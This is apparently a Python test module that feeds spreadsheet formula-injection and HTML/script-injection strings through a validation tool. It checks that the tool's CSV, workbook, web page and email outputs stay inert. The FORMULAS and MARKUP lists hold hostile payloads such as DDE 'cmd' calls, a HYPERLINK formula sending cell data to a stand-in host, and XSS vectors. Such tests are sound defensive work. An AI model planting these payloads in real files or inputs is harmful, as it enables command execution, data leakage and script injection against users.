"""Cells that a spreadsheet would run as formulas, and text that a browser would run as markup."""

import html.parser
import io
import re
import zipfile

from blackbox import files_below, read_csv, short
from hostile import AS_OF, World, person, some

FORMULAS = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "  @x", "\n=1+1", "\u00a0=1", "\ufeff=1",
    "\u200b=1", "\u202e=1", "＝1+1", "＋1+x", "－1+x", "＠SUM(1)", " ＝1", '=HYPERLINK("http://e.example/?"&A1,"x")', "=DDE(\"cmd\";\"/C\")", "-5+cmd()"]
STARTS = set("=+-@\t\r＝＋－＠")
MARKUP = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "<svg/onload=alert(1)>", "javascript:alert(1)", "<!--", "]]>",
    "{{{note}}}", "{{> style}}", "&lt;script&gt;", "<iframe src=//e.example>", "<base href=//e.example>", "<form action=//e.example>",
    "<a href=\"javascript:alert(1)\">x</a>", "\u2028<b>", "<meta http-equiv=refresh content=0>"]


def is_formula(cell):
    """As Excel and LibreOffice read it: the first visible character decides, full-width signs included; plain numbers are no formula."""
    text = re.sub(r"^[\s\x00-\x08\x0e-\x1f\ufeff\u200b-\u200f\u202a-\u202e\u2060]+", "", cell)
    if re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
        return False
    return text[:1] in STARTS or cell[:1] in STARTS


def formulas(program, folder, facts):
    rows = [person(n, team=t, worker=t, note=t, id=f"{t} {n}") for n, t in enumerate(FORMULAS)]
    rejected = [[t, "East", t, "01/01/2016", "n", t] for t in FORMULAS]
    world = World(program, folder / "formulas", rows, title="=1+1", rejected=rejected)
    # Every third is waived, so that the lists hold formulas with a waiver's own texts and without.
    for n, text in list(enumerate(FORMULAS))[::3]:
        done = world.waive("add", "--rule", "ends", "--record", f"{text} {n}", "--reason", text, "--agreed-by", text, "--agreed-on", "2016-01-01",
                           "--until", "2017-01-01")
        facts.same(done.returncode, 0, "a waiver is recorded", f"{text!r}: {done.stderr[-200:]}")
    done = world.validate("--ledger", world.ledger, "--waivers", world.waivers)
    facts.that(done.returncode in (1, 3), "a run of formulas ends", done.stderr[-300:])
    world.validate("--ledger", world.ledger, as_of="2016-03-08", out=folder / "formulas" / "later")
    lists = {str(p): p.read_text(encoding="utf-8") for p in files_below(folder / "formulas") if p.suffix == ".csv" and "extracts" not in str(p)}
    for arguments in (["history"], ["diff", AS_OF, "2016-03-08"], ["diff", "2016-03-08", AS_OF]):
        done = world.command(*arguments, "--ledger", world.ledger, "--format", "csv")
        facts.same(done.returncode, 0, "history and diff write CSV", done.stderr)
        lists[" ".join(arguments)] = done.stdout
    import csv
    cells = 0
    for where, text in lists.items():
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                cells += 1
                facts.that(not is_formula(cell), "no cell of a CSV file is a formula", f"{where}: {cell!r}")
    facts.that(any("rejects" in name for name in lists) and cells > 2000, "lists were looked at", f"{cells} cells of {sorted(lists)[:3]}")
    books = [p for p in files_below(folder / "formulas") if p.suffix == ".xlsx"]
    facts.that(len(books) > 10, "workbooks were looked at", len(books))
    for path in books:
        with zipfile.ZipFile(path) as book:
            for name in book.namelist():
                text = book.read(name).decode("utf-8", "replace")
                if name.startswith("xl/worksheets/sheet"):
                    facts.that(not re.search(r"<f[ >]", text), "no sheet holds a formula", f"{path.name} {name}")
                    kinds = set(re.findall(r'<c [^>]*\bt="(\w+)"', text))
                    facts.that(kinds <= {"s"}, "a text of a sheet is a text", f"{path.name} {name}: {kinds}")
                    facts.that("<hyperlink" not in text, "no sheet leads elsewhere", f"{path.name} {name}")
                facts.that("externalLink" not in name and "e.example" not in (text if name.endswith(".rels") else ""), "no workbook links elsewhere", name)


class Page(html.parser.HTMLParser):
    """What a browser would make of a page: its elements, its scripts and the attributes that act or lead elsewhere."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.acts, self.scripts, self.inside = [], [], [], None

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        for name, value in attributes:
            value = (value or "").strip().lower()
            if name.startswith("on") or (name in ("href", "src", "action", "formaction", "srcdoc", "xlink:href") and re.match(r"[a-z]+:", value) and not value.startswith(("data:image/", "mailto:"))) or value.startswith("//"):
                self.acts.append((tag, name, value[:60]))
        if tag == "script":
            self.inside = ""

    def handle_data(self, data):
        if self.inside is not None:
            self.inside += data

    def handle_endtag(self, tag):
        if tag == "script":
            self.scripts.append(self.inside)
            self.inside = None


def pages_of(folder):
    return [p for p in files_below(folder) if p.suffix == ".html"]


def markup(program, folder, facts):
    import email
    import email.policy
    plain = World(program, folder / "plain", [person(n) for n in range(len(MARKUP))], teams=[["East", "east@example.gov.uk"]])
    plain.validate()
    wanted = {}
    for path in pages_of(plain.out):
        page = Page()
        page.feed(path.read_text(encoding="utf-8"))
        wanted[path.name if path.parent.name != "rules" else "rule"] = (set(page.tags), page.scripts)
    facts.that(len(wanted) == 3, "there are dashboards, teams' pages and rules' pages", sorted(wanted))
    rows = [person(n, team=t, worker=t, note=t, id=f"{t}{n}") for n, t in enumerate(MARKUP)]
    for number, text in enumerate(some(MARKUP, 6)):
        world = World(program, folder / f"markup-{number}", rows if number == 0 else [person(1, team=text, worker=text, note=text, id=text)],
                      title=text, teams=[[t, "east@example.gov.uk"] for t in (MARKUP if number == 0 else [text])])
        world.job(brand={"name": text}, deliver={"method": "maildir", "from": "a@example.gov.uk", "maildir": "Maildir", "outbox": "outbox"})
        done = world.night()
        facts.that(done.returncode in (1, 3), "a run of markup ends", f"{text}: {done.stderr[-300:]}")
        documents = [("rule" if p.parent.name == "rules" else p.name, p.read_text(encoding="utf-8"), p) for p in pages_of(world.folder / "lists")]
        facts.that(len(documents) >= 3, "pages were looked at", len(documents))
        mails = files_below(world.folder / "Maildir")
        facts.that(mails, "mail was looked at", text)
        for path in mails:
            message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
            documents.append(("mail", message.get_body(("html",)).get_content(), path))
        for kind, content, path in documents:
            page = Page()
            page.feed(content)
            facts.same(page.acts, [], "nothing on a page acts or leads elsewhere", f"{text} {path}")
            if kind == "mail":
                facts.that(not {"script", "iframe", "img", "svg", "form", "base"} & set(page.tags), "mail holds no active element", f"{text}: {short(page.tags)}")
                continue
            more = set(page.tags) - wanted[kind][0] - {"section", "ul", "li", "ol", "details", "summary", "h3", "h2", "table", "thead", "tbody", "tr", "th", "td", "p", "span", "a", "caption", "dl", "dt", "dd", "strong", "em", "abbr", "div", "small", "i"}
            facts.same(more, set(), "a page has no element that came from a cell", f"{text} {path}")
            facts.same(page.scripts, wanted[kind][1], "a page's script is ours, byte for byte", f"{text} {path}")
            facts.that("Content-Security-Policy" in content and "default-src 'none'" in content, "a page may ask for nothing", str(path))
